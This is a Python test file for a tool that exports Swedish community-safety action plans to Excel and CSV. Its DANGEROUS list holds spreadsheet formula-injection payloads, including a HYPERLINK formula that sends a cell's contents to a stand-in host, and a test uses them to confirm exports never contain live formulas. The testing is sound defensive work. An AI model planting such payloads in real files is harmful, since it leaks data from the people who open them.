"""The plan in the handbook's form: six columns, filled, with faces."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from samsyn.chain.choices import FORM_FACE_OF, FormFace, Implementation, Result
from samsyn.chain.demo_town import demo_town
from samsyn.chain.plan import Action, Cause, Face, Goal, Plan, Problem
from samsyn.formats.example_plan import example_plan_xlsx
from samsyn.formats.plan_csv import plan_csv
from samsyn.formats.plan_form import COLUMNS, cause_numbers, follow_up_text, form_rows
from samsyn.formats.plan_xlsx import FILL_OF, plan_workbook
from samsyn.formats.table_out import undo_harmless

TODAY = date(2026, 11, 23)
DANGEROUS = ['=HYPERLINK("http://x.invalid/?"&A1,"klicka")', "+46701740605", "@SUM(1+1)", "\t=1+1", "_x000D_=1+1", "<r><t>1</t></r>"]
visible = st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs"))
words = st.one_of(st.sampled_from(DANGEROUS), st.text(alphabet=visible, max_size=40))
NONE = Action(id="a", text="En åtgärd")


def plan_of(*actions: Action, causes: tuple[Cause, ...] = (), goals: tuple[Goal, ...] = (), problems: tuple[Problem, ...] = ()) -> Plan:
    return Plan(id="p", name="Plan", problems=problems, causes=causes, goals=goals, actions=actions)


def read(workbook: bytes) -> list[tuple[str, ...]]:
    rows = openpyxl.load_workbook(io.BytesIO(workbook)).worksheets[0].iter_rows(values_only=True)
    return [tuple(value or "" for value in row) for row in rows]


def evening() -> Plan:
    return demo_town(TODAY).partnerships[0].plans[0]


def test_the_six_columns_are_those_of_the_form() -> None:
    rows = read(plan_workbook(evening(), title="Trygg kväll i centrum"))
    assert rows[0] == ("Orsak", "Åtgärd", "Operativa mål", "När", "Vem", "Uppföljning")
    assert rows[1] == ("Skadegörelse och oro runt stationen", "", "", "", "", "")
    assert len(rows) == 1 + 3 + 25 + 1  # header, problems, actions, the cause without action


def test_the_form_is_ready_to_print_on_landscape_a4_with_title_and_header_on_every_page() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(plan_workbook(evening(), title="Bo & Dana"))).worksheets[0]
    assert (sheet.title, sheet.oddHeader.left.text, sheet.print_title_rows) == ("Plan", "Bo && Dana", "$1:$1")
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize, sheet.page_setup.fitToWidth) == ("landscape", 9, None)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage


def test_a_row_is_as_high_as_its_text_and_grows_when_somebody_writes_more() -> None:
    xml = zipfile.ZipFile(io.BytesIO(plan_workbook(evening(), title="Plan"))).read("xl/worksheets/sheet1.xml").decode()
    assert 'r="3" spans="1:6" ht="75"' in xml and "customHeight" not in xml


def test_a_row_is_filled_and_its_follow_up_is_coloured_and_said_in_words() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(plan_workbook(evening(), title="Plan"))).active
    row = list(next(sheet.iter_rows(min_row=3, max_row=3)))
    assert [cell.value for cell in row] == [
        "1. Gångvägen är mörk och skymd", "1.1 Belysning från stationen till torget",
        "Färre anmälningar om skadegörelse runt stationen: från 62 till 45 om året\nFler känner sig trygga på gångvägen en fredagskväll",
        "2025-08-10", "Bo, Granvikshus\n070-174 06 11\nbo@granviken.example\nIris, Gata och park, 070-174 06 21",
        "Grön. Gjord som tänkt. Resultat: Bättre."]
    assert row[5].fill.fgColor.rgb == "FF" + FILL_OF[FormFace.GREEN]
    assert row[0].fill.fill_type is None


def test_the_date_as_typed_is_what_is_written() -> None:
    assert {row.cells[1]: row.cells[3] for row in form_rows(evening())}["3.3 Sommarjobb till alla i årskurs 9"] == "våren"


@pytest.mark.parametrize("implementation", list(Implementation))
def test_every_implementation_has_its_colour(implementation: Implementation) -> None:
    action = Action(id="a", implementation=Face(value=implementation), result=Face(value=Result.TOO_EARLY))
    row = form_rows(plan_of(action))[0]
    assert row.face is FORM_FACE_OF[implementation]
    assert row.cells[5] == f"{row.face.label}. {implementation.label}. Resultat: För tidigt."


def test_what_nobody_has_said_gets_neither_colour_nor_word() -> None:
    row = form_rows(plan_of(NONE))[0]
    assert (row.face, row.cells[5]) == (None, "")


@pytest.mark.parametrize(("followed_up", "written"), [
    ("klart", "Grön. Gjord, inte sagt hur. klart"),
    ("Lamporna lyser.", "Grön. Gjord, inte sagt hur. Lamporna lyser."),
    ("Grön", "Grön. Gjord, inte sagt hur."),
    ("grön. Lamporna lyser.", "Grön. Gjord, inte sagt hur. Lamporna lyser."),
    ("Grönområdet är röjt", "Grön. Gjord, inte sagt hur. Grönområdet är röjt"),
    ("Grön. Gjord, inte sagt hur. klart", "Grön. Gjord, inte sagt hur. klart"),
    ("Gul. Pågår. Resultat: För tidigt. Lamporna är beställda.", "Grön. Gjord, inte sagt hur. Lamporna är beställda."),
    ("Pågår även nästa år", "Grön. Gjord, inte sagt hur. Pågår även nästa år"),
])
def test_the_words_of_a_file_are_kept_and_never_doubled(followed_up: str, written: str) -> None:
    action = Action(id="a", implementation=Face(value=Implementation.DONE), followed_up=followed_up)
    assert follow_up_text(action) == written
    assert follow_up_text(Action(id="a", implementation=Face(value=Implementation.DONE), followed_up=written)) == written


def test_a_colour_that_came_with_a_file_is_kept_until_somebody_says_more() -> None:
    row = form_rows(plan_of(Action(id="a", form_face=FormFace.YELLOW, followed_up="gul")))[0]
    assert (row.face, row.cells[5]) == (FormFace.YELLOW, "Gul.")


def test_causes_without_number_get_one_and_no_number_is_given_twice() -> None:
    causes = (Cause(id="a", number=2), Cause(id="b"), Cause(id="c", number=2), Cause(id="d", number=1), Cause(id="e", number=0))
    assert cause_numbers(plan_of(causes=causes)) == {"a": 2, "b": 3, "c": 4, "d": 1, "e": 5}


def test_every_row_says_its_whole_cause_and_rows_stand_in_the_order_of_the_causes() -> None:
    causes = (Cause(id="c2", number=2, text="Två"), Cause(id="c1", number=1, text="Ett"))
    actions = (Action(id="a", text="A", causes=("c2",)), Action(id="b", text="B", causes=("c2", "c1")), Action(id="c", text="C"))
    rows = form_rows(plan_of(*actions, causes=causes))
    assert [row.cells[:2] for row in rows] == [("", "C"), ("1. Ett\n2. Två", "B"), ("2. Två", "A")]


def test_an_action_on_causes_of_two_problems_stands_where_both_are_known() -> None:
    problems = (Problem(id="p1", title="Ett"), Problem(id="p2", title="Två"))
    causes = (Cause(id="c1", number=1, text="A", problem="p1"), Cause(id="c2", number=2, text="B", problem="p2"))
    both = (Action(id="a", text="Båda", causes=("c2", "c1")), Action(id="b", text="Den ena", causes=("c1",)))
    assert [row.cells[:2] for row in form_rows(plan_of(*both, causes=causes, problems=problems))] == [
        ("Ett", ""), ("1. A", "Den ena"), ("Två", ""), ("2. B", ""), ("1, 2", "Båda")]
    assert [row.cells[:2] for row in form_rows(plan_of(both[0], causes=causes, problems=problems))] == [
        ("Ett", ""), ("1. A", ""), ("Två", ""), ("2. B", ""), ("1, 2", "Båda")]


def test_nothing_of_the_chain_is_lost_for_want_of_a_link() -> None:
    plan = plan_of(Action(id="a", text="A", causes=("gone",), goals=("gone",)), causes=(Cause(id="c", number=1, text="Ensam"),),
                   goals=(Goal(id="g", text="Fritt"),))
    assert [row.cells[:3] for row in form_rows(plan)] == [("", "A", ""), ("1. Ensam", "", ""), ("", "", "Fritt")]


@given(st.lists(words, min_size=7, max_size=7))
@settings(max_examples=50, deadline=None)
def test_no_cell_of_a_plan_is_ever_a_formula(texts: list[str]) -> None:
    action = Action(id="a", causes=("c",), goals=("g",), text=texts[0], due_typed=texts[1], responsible=texts[2],
                    responsible_organisation=texts[3], followed_up=texts[4])
    plan = plan_of(action, causes=(Cause(id="c", number=1, text=texts[5]),), goals=(Goal(id="g", text=texts[6]),))
    cells = [cell for row in openpyxl.load_workbook(io.BytesIO(plan_workbook(plan, title=texts[0]))).active.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"} and not any(cell.hyperlink for cell in cells)
    assert [cell.value or "" for cell in cells[-6:]] == list(form_rows(plan)[0].cells)
    rows = list(csv.reader(io.StringIO(plan_csv(plan).decode("utf-8-sig"), newline=""), delimiter=";"))
    assert not any(cell.startswith(tuple("=+-@\t\r\n＝＋－＠")) for row in rows for cell in row)
    assert tuple(undo_harmless(cell) for cell in rows[1]) == form_rows(plan)[0].cells


def test_csv_has_the_same_rows_as_the_workbook() -> None:
    rows = list(csv.reader(io.StringIO(plan_csv(evening()).decode("utf-8-sig"), newline=""), delimiter=";"))
    assert tuple(rows[0]) == COLUMNS
    problems = {problem.title for problem in evening().problems}
    assert [tuple(undo_harmless(cell) for cell in row) for row in rows[1:]] == [
        (f"Problem: {row.cells[0]}", *row.cells[1:]) if row.cells[0] in problems else row.cells for row in form_rows(evening())]


def test_the_file_says_when_it_was_made_only_if_it_is_told() -> None:
    made_at = datetime(2027, 1, 31, 8, 0)
    book = openpyxl.load_workbook(io.BytesIO(plan_workbook(evening(), title="Plan", made_at=made_at)))
    assert (book.properties.created, book.properties.title, book.properties.creator) == (made_at, "Plan", "Samsyn")


def test_ten_thousand_actions_come_out_row_by_row() -> None:
    causes = tuple(Cause(id=f"c{n}", number=n, text=f"Orsak {n}") for n in range(1, 101))
    actions = tuple(Action(id=f"a{n}", number=f"{n % 100 + 1}.{n}", text="Åtgärd", causes=(f"c{n % 100 + 1}",)) for n in range(10_000))
    assert len(form_rows(plan_of(*actions, causes=causes))) == 10_000


def test_the_example_looks_like_a_plan_in_real_life() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(example_plan_xlsx(TODAY))).active
    rows = read(example_plan_xlsx(TODAY))
    assert rows[0][0] == "Åtgärdsplan Trygg kväll i centrum 2027" and rows[3] == COLUMNS
    assert {str(merged) for merged in sheet.merged_cells.ranges} == {"A5:A7", "A8:A9", "A10:A11"}
    assert "påhittade" in rows[1][0]
    assert any(row[1] and not row[4] for row in rows[4:]) and any(row[0] and not row[1] for row in rows[4:])
    assert {"våren", "löpande", "Q3", "v. 20", "2027-03-31"} <= {row[3] for row in rows}
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}


def test_the_example_is_the_same_file_every_time_of_a_year() -> None:
    assert example_plan_xlsx(date(2027, 1, 1)) == example_plan_xlsx(date(2027, 12, 31)) != example_plan_xlsx(date(2028, 1, 1))
